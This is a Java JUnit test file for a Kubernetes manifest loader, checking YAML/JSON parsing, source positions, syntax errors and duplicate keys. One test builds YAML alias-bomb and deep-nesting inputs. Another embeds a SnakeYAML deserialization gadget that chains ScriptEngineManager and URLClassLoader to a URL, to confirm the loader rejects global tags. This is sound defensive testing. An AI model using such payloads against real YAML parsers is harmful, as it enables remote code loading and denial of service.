@@ -1,0 +1,221 @@
+package dev.meshgate.manifest;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.NoSuchFileException;
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class ManifestLoaderTest {
+
+    @TempDir
+    Path dir;
+
+    private final ManifestLoader loader = new ManifestLoader(LoadLimits.defaults(), "default");
+
+    @Test
+    void readsMultiDocumentYamlJsonAndListsRecursivelyWithPositions() throws IOException {
+        write("a.yaml", """
+                apiVersion: v1
+                kind: Service
+                metadata:
+                  name: web
+                  namespace: shop
+                spec:
+                  ports:
+                  - name: http
+                    port: 80
+                ---
+                # a comment-only document is skipped
+                ---
+                apiVersion: v1
+                kind: List
+                items:
+                - apiVersion: v1
+                  kind: ConfigMap
+                  metadata:
+                    name: one
+                - apiVersion: v1
+                  kind: ConfigMap
+                  metadata: {name: two}
+                """);
+        write("nested/deeper/b.json", """
+                {"apiVersion": "v1", "kind": "Namespace",
+                 "metadata": {"name": "shop"}}
+                """);
+        write("notes.txt", "not a manifest");
+        write(".git/config.yaml", "apiVersion: v1\nkind: Secret\nmetadata: {name: hidden}\n");
+
+        LoadResult result = loader.load(List.of(dir));
+
+        assertThat(result.problems()).isEmpty();
+        assertThat(result.files()).isEqualTo(2);
+        assertThat(result.resources()).extracting(Resource::toString)
+                .containsExactly("Service shop/web", "ConfigMap default/one", "ConfigMap default/two", "Namespace shop");
+        Resource service = result.resources().get(0);
+        assertThat(service.origin()).isEqualTo(new Origin("a.yaml", 1, 1));
+        assertThat(service.origin("/spec/ports/0/port")).isEqualTo(new Origin("a.yaml", 9, 5));
+        assertThat(service.origin("/spec/ports/0/name")).isEqualTo(new Origin("a.yaml", 8, 5));
+        assertThat(service.origin("/spec/ports/0/missing")).isEqualTo(new Origin("a.yaml", 8, 5));
+        assertThat(result.resources().get(2).origin()).isEqualTo(new Origin("a.yaml", 20, 3));
+        assertThat(result.resources().get(3).origin("/metadata/name").file()).isEqualTo("nested/deeper/b.json");
+        assertThat(result.resources().get(3).origin("/metadata/name").line()).isEqualTo(2);
+        assertThat(result.resources().get(3).namespace()).isEmpty();
+    }
+
+    @Test
+    void malformedYamlIsAProblemAtItsLineAndOtherFilesAreStillRead() throws IOException {
+        write("bad.yaml", """
+                apiVersion: v1
+                kind: ConfigMap
+                metadata:
+                  name: before
+                ---
+                apiVersion: v1
+                kind: ConfigMap
+                metadata:
+                  name: [unclosed
+                """);
+        write("good.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: good}\n");
+
+        LoadResult result = loader.load(List.of(dir));
+
+        assertThat(result.resources()).extracting(Resource::name).containsExactly("before", "good");
+        assertThat(result.problems()).singleElement().satisfies(problem -> {
+            assertThat(problem.type()).isEqualTo(LoadProblem.Type.SYNTAX);
+            assertThat(problem.origin().file()).isEqualTo("bad.yaml");
+            assertThat(problem.origin().line()).isEqualTo(10);
+        });
+    }
+
+    @Test
+    void aliasBombsDeepNestingAndHugeFilesHitLimitsNotMemory() throws IOException {
+        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
+        for (char c = 'b'; c <= 'z'; c++) {
+            char previous = (char) (c - 1);
+            bomb.append(c).append(": &").append(c).append(" [*").append(previous).append(", *").append(previous)
+                    .append(", *").append(previous).append(", *").append(previous).append("]\n");
+        }
+        write("bomb.yaml", bomb.toString());
+        write("deep.yaml", "a: " + "[".repeat(200) + "]".repeat(200) + "\n");
+        ManifestLoader small = new ManifestLoader(new LoadLimits(1024, 100, 64, 500_000), "default");
+        write("big.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: big}\ndata:\n  x: \""
+                + "y".repeat(2000) + "\"\n");
+
+        LoadResult result = small.load(List.of(dir));
+
+        assertThat(result.resources()).isEmpty();
+        assertThat(result.problems()).extracting(LoadProblem::type).containsOnly(LoadProblem.Type.LIMIT);
+        assertThat(result.problems()).extracting(p -> p.origin().file())
+                .containsExactlyInAnyOrder("big.yaml", "bomb.yaml", "deep.yaml");
+        assertThat(result.problems()).extracting(LoadProblem::detail).anyMatch(d -> d.contains("nesting"))
+                .anyMatch(d -> d.contains("bytes"));
+    }
+
+    @Test
+    void aliasExpansionIsCappedEvenUnderTheAliasLimit() throws IOException {
+        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
+        for (char c = 'b'; c <= 'h'; c++) {
+            char p = (char) (c - 1);
+            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p).append(", *")
+                    .append(p).append(", *").append(p).append(", *").append(p).append(", *").append(p).append("]\n");
+        }
+        write("bomb.yaml", bomb.toString());
+
+        LoadResult result = new ManifestLoader(new LoadLimits(1 << 20, 100, 64, 100_000), "default")
+                .load(List.of(dir));
+
+        assertThat(result.problems()).singleElement().satisfies(p -> {
+            assertThat(p.type()).isEqualTo(LoadProblem.Type.LIMIT);
+            assertThat(p.detail()).contains("100000");
+        });
+    }
+
+    @Test
+    void documentsThatAreNotObjectsAndDuplicateKeysAreProblemsWithLines() throws IOException {
+        write("odd.yaml", """
+                - just
+                - a list
+                ---
+                kind: ConfigMap
+                metadata: {name: no-api-version}
+                ---
+                apiVersion: v1
+                kind: ConfigMap
+                metadata: {}
+                ---
+                apiVersion: v1
+                kind: ConfigMap
+                metadata:
+                  name: dup
+                  name: dup2
+                """);
+
+        LoadResult result = loader.load(List.of(dir));
+
+        assertThat(result.problems()).extracting(p -> p.type() + "@" + p.origin().line()).containsExactlyInAnyOrder(
+                "NOT_AN_OBJECT@1", "NOT_AN_OBJECT@4", "NOT_AN_OBJECT@9", "DUPLICATE_KEY@15");
+        assertThat(result.resources()).extracting(Resource::name).containsExactly("dup2");
+    }
+
+    @Test
+    void globalTagsAreRefusedAndLocalTagsReadAsText() throws IOException {
+        write("global.yaml", """
+                apiVersion: v1
+                kind: ConfigMap
+                metadata: {name: global}
+                data:
+                  x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
+                """);
+        write("local.yaml", """
+                apiVersion: v1
+                kind: ConfigMap
+                metadata: {name: local}
+                data:
+                  y: !custom value
+                """);
+
+        LoadResult result = loader.load(List.of(dir));
+
+        assertThat(result.problems()).singleElement().satisfies(p -> {
+            assertThat(p.type()).isEqualTo(LoadProblem.Type.SYNTAX);
+            assertThat(p.origin()).isEqualTo(new Origin("global.yaml", 5, 6));
+            assertThat(p.detail()).contains("tag is not allowed");
+        });
+        assertThat(result.resources()).singleElement().satisfies(r -> assertThat(r.at("/data/y").asText())
+                .isEqualTo("value"));
+    }
+
+    @Test
+    void utf16FilesWithByteOrderMarkAreRead() throws IOException {
+        Files.write(dir.resolve("utf16.yaml"),
+                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: wide}\n".getBytes(StandardCharsets.UTF_16));
+
+        assertThat(loader.load(List.of(dir)).resources()).extracting(Resource::name).containsExactly("wide");
+    }
+
+    @Test
+    void aMissingPathIsAnIoError() {
+        assertThatThrownBy(() -> loader.load(List.of(dir.resolve("nope")))).isInstanceOf(NoSuchFileException.class);
+    }
+
+    @Test
+    void aFileGivenDirectlyIsNamedByItsFileName() throws IOException {
+        Path file = write("sub/one.yml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: one}\n");
+
+        assertThat(loader.load(List.of(file)).resources().get(0).origin().file()).isEqualTo("one.yml");
+    }
+
+    private Path write(String name, String text) throws IOException {
+        Path file = dir.resolve(name);
+        Files.createDirectories(file.getParent());
+        Files.writeString(file, text);
+        return file;
+    }
+}
